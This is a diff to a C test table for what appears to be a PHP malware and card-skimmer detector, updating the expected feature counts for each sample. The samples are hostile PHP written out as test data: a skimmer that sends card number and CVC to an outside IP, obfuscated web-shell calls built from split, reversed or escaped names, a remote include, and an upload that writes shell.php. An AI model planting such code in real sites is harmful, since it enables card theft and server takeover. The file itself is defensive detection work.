@@ -55,8 +55,8 @@ static const struct look_case cases[] = {
     {"through a string with variables", "pay.php",
      "<?php $n = $_POST[\"pan_number\"]; $s = \"n=$n&c={$_POST['cvc']}\"; "
      "file_get_contents(\"http://192.0.2.7/?\" . $s);",
-     "{\"card_to_net\":1,\"card_to_sink\":1,\"card_word\":3,\"host_ip\":1,\"hosts\":1,\"net_"
-     "out\":1,\"php_code\":1,\"request_read\":2}",
+     "{\"card_to_net\":1,\"card_to_sink\":1,\"card_word\":3,\"form_to_host\":1,\"host_ip\":1,"
+     "\"hosts\":1,\"net_out\":1,\"php_code\":1,\"request_read\":2}",
      "php"},
     {"foreach over the form", "pay.php",
      "<?php foreach ($_POST as $k => $v) { $t .= \"$k=$v;\"; } fputs($h, $t);",
@@ -111,16 +111,18 @@ static const struct look_case cases[] = {
      "{\"decode\":1,\"hidden_url\":1,\"hosts\":1,\"php_code\":1}", "php"},
     {"a name in pieces", "a.php",
      "<?php $f = \"base\" . \"64_de\" . \"code\"; $g = \"as\".\"sert\"; $g($f($_POST[\"a\"]));",
-     "{\"dynamic_call\":2,\"php_code\":1,\"request_read\":1,\"request_run\":2,\"split_name\":"
-     "2}",
+     "{\"dynamic_call\":2,\"eval_old\":1,\"php_code\":1,\"request_read\":1,\"request_run\":2,"
+     "\"split_name\":2}",
      "php"},
     {"a name backwards", "a.php",
      "<?php $f = strrev(\"lave\"); $g = str_rot13(\"flfgrz\"); $g(\"id\");",
-     "{\"decode\":1,\"decoded_run\":1,\"dynamic_call\":1,\"php_code\":1,\"split_name\":2}",
+     "{\"decode\":1,\"decoded_run\":1,\"dynamic_call\":1,\"eval_old\":1,\"php_code\":1,\"split_"
+     "name\":2}",
      "php"},
     {"a name of escapes", "a.php",
      "<?php $f = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $f($_GET[\"c\"]);",
-     "{\"dynamic_call\":1,\"php_code\":1,\"request_read\":1,\"request_run\":1}", "php"},
+     "{\"dynamic_call\":1,\"eval_old\":1,\"php_code\":1,\"request_read\":1,\"request_run\":1}",
+     "php"},
     {"chr chains and xor", "a.php",
      "<?php $f = chr(115).chr(121).chr(115); for (;;) { $o .= chr(ord($s[$i]) ^ ord($k[$i % "
      "4])); }",
@@ -142,7 +144,7 @@ static const struct look_case cases[] = {
      "{\"dynamic_call\":10,\"longest_line\":307,\"odd_names\":100,\"php_code\":1}", "php"},
     {"image included as a program", "a.php",
      "<?php include \"../upload/logo.png\"; @require_once(ABSPATH . \"fonts/.x.ico\");",
-     "{\"include_odd\":1,\"include_variable\":1,\"php_code\":1}", "php"},
+     "{\"include_odd\":2,\"include_variable\":1,\"php_code\":1}", "php"},
     {"code from another server", "a.php", "<?php include \"http://host-one.net/a.txt\";",
      "{\"hosts\":1,\"include_remote\":1,\"php_code\":1}", "php"},
     {"errors off, dates back", "a.php",
@@ -166,7 +168,7 @@ static const struct look_case cases[] = {
      "<?php move_uploaded_file($_FILES[\"f\"][\"tmp_name\"], \"../html/\" . "
      "$_FILES[\"f\"][\"name\"]); copy($a, \"shell.php\"); chmod(\"x\", 0777);",
      "{\"file_mode\":1,\"file_write\":1,\"file_write_code\":1,\"php_code\":1,\"upload_move\":1,"
-     "\"upload_read\":2}",
+     "\"upload_read\":2,\"visitor_file\":1}",
      "php"},
     {"a card object", "pay.php",
      "<?php function charge(Card $card) { $c = base64_encode(json_encode([$card->number, "
